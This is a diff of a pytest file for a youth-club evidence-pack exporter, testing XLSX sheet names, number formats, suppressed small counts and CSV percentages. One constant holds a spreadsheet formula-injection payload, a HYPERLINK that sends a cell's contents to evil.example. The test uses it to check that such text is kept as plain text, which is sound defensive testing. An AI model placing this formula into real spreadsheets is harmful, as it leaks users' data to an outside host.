@@ -14,7 +14,18 @@ from pypdf import PdfReader
 from app.charts.wheel import draw_wheel
 from app.evidence import packs
 from app.evidence.suppression import SUPPRESSION_NOTE, Suppressed
-from app.evidence.tables import COUNT, NUMBER, P_VALUE, SHARE, Column, Pack, Section, Table
+from app.evidence.tables import (
+    COUNT,
+    NUMBER,
+    P_VALUE,
+    SHARE,
+    Column,
+    Pack,
+    Section,
+    Share,
+    Table,
+    format_cell,
+)
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for results")'
 WELSH_SERVICE = "Gwasanaeth Ieuenctid Dyffryn Conwy (Ymddiriedolaeth Gŵyl)"
@@ -218,12 +229,18 @@ def right_of(sheet, cell, steps=1):
     return sheet.cell(row=cell.row, column=cell.column + steps)
 
 
-def test_xlsx_has_the_method_sheet_first_then_a_sheet_per_section(workbook, pack):
+SCALE_SHEET = "WEMWBS scores change"  # the section's title, by words, no ":" "/" "?"
+
+
+def test_xlsx_has_the_method_sheet_first_then_a_sheet_per_table(workbook, pack):
     assert workbook.sheetnames == [
         "Method",
-        "Responses",
-        "Warwick-Edinburgh Mental Wellbe",  # 31 characters, without the ":" "/" "?"
-        "Tell us what you think",
+        "Responses and people",
+        "Completion rate",  # "(complete responses as a share of all)" would not fit
+        "Languages used (responses)",
+        SCALE_SHEET,  # the section's only table: named for the section
+        "Do you feel welcome here",
+        "Some words people used",
     ]
     method = workbook["Method"]
     assert method["A1"].value == pack.title and method["A1"].font.b
@@ -235,16 +252,18 @@ def test_xlsx_has_the_method_sheet_first_then_a_sheet_per_section(workbook, pack
 
 
 def test_xlsx_figures_are_numbers_with_number_formats(workbook):
-    sheet = workbook["Responses"]
+    sheet = workbook["Responses and people"]
+    assert sheet["A1"].value == "Responses"  # the section the table belongs to
     responses = find(sheet, "Responses and people")
     assert responses.font.b
     header = sheet.cell(row=responses.row + 1, column=1)
     assert header.value == "Measure" and header.font.b
     count = sheet.cell(row=responses.row + 2, column=2)
     assert count.value == 1234 and count.data_type == "n" and count.number_format == "#,##0"
-    share = right_of(sheet, find(sheet, "Completion rate"))
+    rates = workbook["Completion rate"]
+    share = right_of(rates, find(rates, "Completion rate"))
     assert share.value == pytest.approx(0.87) and share.number_format == "0%"  # whole percent
-    scale = workbook["Warwick-Edinburgh Mental Wellbe"]
+    scale = workbook[SCALE_SHEET]
     mean = right_of(scale, find(scale, "Change, first to latest"))
     assert mean.value == pytest.approx(-1.25) and mean.number_format == "0.0"
     p_value = right_of(scale, find(scale, "Change, first to latest"), 3)
@@ -252,27 +271,28 @@ def test_xlsx_figures_are_numbers_with_number_formats(workbook):
 
 
 def test_xlsx_hidden_figures_are_the_words_not_a_number(workbook):
-    sheet = workbook["Responses"]
+    sheet = workbook["Languages used (responses)"]
     welsh = find(sheet, "Welsh (our own translation)")
     hidden, shown = right_of(sheet, welsh), right_of(sheet, welsh, 2)
     assert hidden.value == "fewer than 10" and hidden.data_type == "s"
     assert shown.value == 24
-    feedback = workbook["Tell us what you think"]
+    feedback = workbook["Do you feel welcome here"]
     assert right_of(feedback, find(feedback, "No")).value == "fewer than 10"
 
 
 def test_xlsx_keeps_formula_like_text_as_text(workbook):
-    feedback = workbook["Tell us what you think"]
+    feedback = workbook["Some words people used"]
     cell = find(feedback, HYPERLINK)
     assert cell.data_type == "s"
     assert find(feedback, ARABIC_ANSWER).data_type == "s"
 
 
-def test_xlsx_sets_widths_and_freezes_the_header_of_a_one_table_sheet(workbook):
-    scale = workbook["Warwick-Edinburgh Mental Wellbe"]
-    header = find(scale, "Measure")
-    assert scale.freeze_panes == f"A{header.row + 1}"
-    assert workbook["Responses"].freeze_panes is None  # three tables: nothing to hold
+def test_xlsx_freezes_the_header_row_and_row_names_of_every_table(workbook):
+    for name in workbook.sheetnames[1:]:
+        sheet = workbook[name]
+        header = next(c for c in sheet["A"] if c.font.b and c.row > 2)  # after the caption
+        assert sheet.freeze_panes == f"B{header.row + 1}", name
+    scale = workbook[SCALE_SHEET]
     assert scale.column_dimensions["A"].width >= len("Change in the last month")
 
 
@@ -289,6 +309,26 @@ def test_sheet_names_are_valid_and_unique_whatever_the_titles():
         assert name.casefold() not in ("method", "history")
     assert names[1] == "A B test"
     assert names[2] == "x" * 31 and names[3] == "x" * 27 + " (2)"
+
+
+def test_sheet_names_are_shortened_by_words_never_mid_word():
+    names = packs.sheet_names(
+        [
+            "Warwick-Edinburgh Mental Wellbeing Scale (WEMWBS): indicative bands",
+            "Short Warwick-Edinburgh Mental Wellbeing Scale (SWEMWBS): change from first to "
+            "latest score",
+            "Completion rate (complete responses as a share of all responses)",
+            "Tell us about the club: what would make it better for you?",
+            "Tell us about the club: what would make it better for your friends?",
+        ]
+    )
+    assert names == [
+        "WEMWBS indicative bands",
+        "SWEMWBS change from first",
+        "Completion rate",
+        "Tell us about the club",
+        "Tell us about the club (2)",
+    ]
 
 
 # --- PDF -----------------------------------------------------------------------------------
@@ -396,3 +436,58 @@ def test_an_empty_pack_still_makes_every_file():
     assert openpyxl.load_workbook(io.BytesIO(packs.pack_xlsx(empty))).sheetnames == ["Method"]
     reader = PdfReader(io.BytesIO(packs.pack_pdf(empty)))
     assert "Riverside Youth Club" in pdf_text(reader)
+
+
+# --- Shares and people in a table of means ---------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def change_pack():
+    change = Table(
+        key="wemwbs-change",
+        caption="WEMWBS: change from first to latest score",
+        columns=(Column("Measure"), Column(NOW, NUMBER), Column(BEFORE, NUMBER)),
+        rows=(
+            ("People with an earlier score", 169, 40),
+            ("Mean change", 2.345, -1.0),
+            ("Share with meaningful improvement", Share(0.4), Share(0.6904)),
+            ("Share with reliable improvement", Suppressed(), Share(0.125)),
+        ),
+    )
+    return Pack(
+        title="Evidence: Riverside",
+        scope="Riverside",
+        period=NOW,
+        previous_period=BEFORE,
+        generated_at=datetime(2026, 7, 2, 9, 30),
+        method=(),
+        sections=(Section(key="wemwbs", title="WEMWBS", tables=(change,)),),
+    )
+
+
+def test_shares_among_means_read_as_percentages_on_the_page_and_in_the_csv(change_pack):
+    table = change_pack.sections[0].tables[0]
+    shown = [
+        [format_cell(v, c.kind) for v, c in zip(row, table.columns, strict=True)]
+        for row in table.rows
+    ]
+    assert shown[0] == ["People with an earlier score", "169", "40"]
+    assert shown[2] == ["Share with meaningful improvement", "40%", "69%"]
+    rows = csv_rows(packs.pack_csv(change_pack))
+    assert ["People with an earlier score", "169", "40"] in rows  # not "169.0"
+    assert ["Mean change", "2.3", "-1.0"] in rows
+    assert ["Share with meaningful improvement", "40%", "69%"] in rows  # not "0.4"
+    assert ["Share with reliable improvement", "fewer than 10", "12%"] in rows
+
+
+def test_shares_among_means_are_percent_formatted_numbers_in_the_xlsx(change_pack):
+    sheet = openpyxl.load_workbook(io.BytesIO(packs.pack_xlsx(change_pack)))["WEMWBS"]
+    people = right_of(sheet, find(sheet, "People with an earlier score"))
+    assert people.value == 169 and people.number_format == "#,##0"
+    share = find(sheet, "Share with meaningful improvement")
+    now, before = right_of(sheet, share), right_of(sheet, share, 2)
+    assert now.value == pytest.approx(0.4) and now.number_format == "0%"
+    # Rounded as the page shows it (69%), so the file pins no more than the page.
+    assert before.value == pytest.approx(0.69) and before.number_format == "0%"
+    mean = right_of(sheet, find(sheet, "Mean change"))
+    assert mean.value == pytest.approx(2.345) and mean.number_format == "0.0"
